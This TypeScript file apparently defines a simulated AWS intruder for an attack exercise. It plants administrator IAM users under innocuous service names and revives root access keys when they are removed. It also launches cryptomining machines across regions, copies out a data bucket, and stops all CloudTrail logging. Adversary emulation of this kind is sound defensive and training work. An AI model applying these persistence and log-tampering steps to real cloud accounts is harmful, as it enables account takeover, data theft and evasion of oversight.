import { again, firstOpen } from "../adversary/again.ts";
import { BROWSER } from "../adversary/browser.ts";
import { BucketReader, grabEverything } from "../adversary/bucket-reader.ts";
import { rogueMining } from "../adversary/miner.ts";
import { once } from "../adversary/once.ts";
import { assumeByOwnProvider } from "../adversary/own-provider.ts";
import { launchMissing, ROGUE_TYPE } from "../adversary/rogue-machines.ts";
import { credentialsFrom, refusalOf, type Aws, type Credentials } from "../kit/aws.ts";
import { signedIn } from "../kit/console.ts";
import type { Behaviour, Stage } from "../kit/stage.ts";
import type { Facts } from "./facts.ts";

export const LAIR = { ip: "198.51.100.47", userAgent: "aws-cli/2.17.9 Python/3.11.8 Linux/6.6.9-amd64" };
export const KEY_PAIR = "prod-deploy-2";
/** Names for users that nobody asks about, in order of use. */
export const USER_NAMES = [
  "svc-cost-sync",
  "svc-inventory",
  "svc-health",
  "svc-patching",
  "svc-reports",
] as const;

/** It signs in by the console's web page, and works with the CLI from then on. */
export const signInPage = (stage: Stage): Aws["console"] =>
  stage.outsider({ ip: LAIR.ip, userAgent: BROWSER }).console;

/** All that the intruder holds at a moment. */
export interface Loot {
  rootKey: Credentials;
  rootPassword: string;
  /** Its own user, with all rights. */
  user: Login & { key: Credentials };
  /** How many users it has made. */
  made: number;
  /** At its own identity provider, and the session of the role that this opened last. */
  ownSession: string;
  roleSession: Credentials;
  plantedKey: Credentials;
  plantedLogin: Login & { seed: string };
}

interface Login {
  name: string;
  password: string;
}

/** A way into the account: answers AWS in a Region, ours unless told, or throws a refusal. */
type Door = (region?: string) => Promise<Aws>;

/**
 * Uses everything that it holds. As long as one door to all rights is open, it brings back what was taken from it:
 * its user, the root user's key, its machines.
 */
export function intruder(stage: Stage, facts: Facts, loot: Loot): Behaviour[] {
  const doors = doorsOf(stage, facts, loot);
  const shut = new Set<string>();
  /** Tries doors every so often, and knows afterwards whether they are shut. */
  const visit = (name: string, everySeconds: number, purpose: string, ways: readonly Door[]): Behaviour =>
    again(name, everySeconds, purpose, async () => {
      shut.add(name);
      await firstOpen(ways.map((open) => async () => look(await open())));
      shut.delete(name);
      return { what: purpose };
    });
  const reader = new BucketReader(facts.dataBucket);
  const { rootKey, rootSignIn, userKey, userSignIn, role } = doors;
  const powerful = [rootKey, userKey, userSignIn, role, rootSignIn];
  return [
    visit("root-key", 20, "DescribeInstances with the root user's key", [rootKey]),
    visit("root-sign-in", 60, "DescribeInstances after a sign-in as root", [rootSignIn]),
    visit("planted-user", 20, "DescribeInstances as its own user", [userKey, userSignIn]),
    visit("planted-role", 30, `DescribeInstances with ${facts.plantedRole}`, [role]),
    again("planted-credentials", 30, "Use of credentials that it made for others", () =>
      firstOpen([
        () => reader.readOne(stage.intruder(loot.plantedKey, LAIR), stage),
        async () => {
          await look(await doors.plantedSignIn());
          return { what: `DescribeInstances after a sign-in as ${loot.plantedLogin.name}` };
        },
      ]),
    ),
    again("comeback", 45, "A look whether everything is still there", async () => {
      const back: string[] = [];
      if (shut.has("planted-user"))
        await unlessRefused(powerful, async (aws) => {
          loot.user = await plantUser(stage, aws, loot.made++);
          back.push(`the user ${loot.user.name}`);
        });
      if (shut.has("root-key"))
        await unlessRefused([rootSignIn], async (aws) => {
          loot.rootKey = (await reviveRootKey(aws)) ?? loot.rootKey;
          back.push("the root user's key");
        });
      for (const region of facts.rogueRegions)
        await firstOpen(
          powerful.map((open) => async () => {
            if (await launchMissing(await open(region))) back.push(`a machine in ${region}`);
          }),
        );
      return { what: back.length ? `Brought back: ${back.join(", ")}` : "Everything is still there" };
    }),
    rogueMining(facts.rogueRegions, ROGUE_TYPE),
    grabEverything(270, facts.dataBucket, LAIR, () => loot.user.key),
    once(
      "trail-stopped",
      420,
      async () => {
        await firstOpen(
          powerful.map((open) => async () => {
            const { cloudtrail } = await open();
            const { trailList = [] } = await cloudtrail.describeTrails({});
            for (const { Name } of trailList) await cloudtrail.stopLogging({ Name });
          }),
        );
        return { gotThrough: true, what: "The trail was stopped" };
      },
      "Stop of the trail",
    ),
  ];
}

function doorsOf(stage: Stage, facts: Facts, loot: Loot) {
  const withKey = (credentials: Credentials, region?: string): Aws =>
    stage.intruder(credentials, { ...LAIR, ...(region !== undefined && { region }) });
  const page = signInPage(stage);
  const signIn =
    (input: () => Parameters<typeof page.signIn>[0]): Door =>
    async (region) =>
      withKey(signedIn(await page.signIn(input())), region);
  return {
    rootKey: async (region) => withKey(loot.rootKey, region),
    rootSignIn: signIn(() => ({ Root: true, Password: loot.rootPassword })),
    userKey: async (region) => withKey(loot.user.key, region),
    userSignIn: signIn(() => ({ UserName: loot.user.name, Password: loot.user.password })),
    plantedSignIn: signIn(() => ({
      UserName: loot.plantedLogin.name,
      Password: loot.plantedLogin.password,
      MfaCode: stage.mfaCodes(loot.plantedLogin.seed)[0],
    })),
    role: (region) =>
      firstOpen([
        async () => {
          await look(withKey(loot.roleSession));
          return withKey(loot.roleSession, region);
        },
        async () => {
          loot.roleSession = await assumeByOwnProvider(stage, LAIR, loot.ownSession, facts.plantedRole);
          return withKey(loot.roleSession, region);
        },
      ]),
  } satisfies Record<string, Door>;
}

const look = async (aws: Aws): Promise<void> => void (await aws.ec2.describeInstances({ MaxResults: 5 }));

/** Does something by the first door that lets it; nothing when none does. */
async function unlessRefused(doors: readonly Door[], act: (aws: Aws) => Promise<void>): Promise<void> {
  try {
    await firstOpen(doors.map((open) => async () => act(await open())));
  } catch (error) {
    if (refusalOf(error) === undefined) throw error;
  }
}

/** Makes a user of its own, with all rights, a key and a console password. */
export async function plantUser({ chance }: Stage, { iam }: Aws, already: number): Promise<Loot["user"]> {
  const name = USER_NAMES[already % USER_NAMES.length]!;
  const password = makePassword(chance);
  await iam.createUser({ UserName: name });
  await iam.attachUserPolicy({
    UserName: name,
    PolicyArn: "arn:aws:iam::aws:policy/AdministratorAccess",
  });
  const { AccessKey } = await iam.createAccessKey({ UserName: name });
  await iam.createLoginProfile({ UserName: name, Password: password, PasswordResetRequired: false });
  return { name, password, key: credentialsFrom(AccessKey) };
}

export const makePassword = (chance: Stage["chance"]): string =>
  `Vh7!${chance.text(16, "abcdefghjkmnpqrstuvwxyz23456789")}`;

/** As root, without naming a user: the key on again, or a new one. */
async function reviveRootKey({ iam }: Aws): Promise<Credentials | undefined> {
  const { AccessKeyMetadata = [] } = await iam.listAccessKeys({});
  const [there] = AccessKeyMetadata;
  if (!there) return credentialsFrom((await iam.createAccessKey({})).AccessKey);
  await iam.updateAccessKey({ AccessKeyId: there.AccessKeyId, Status: "Active" });
  return undefined;
}
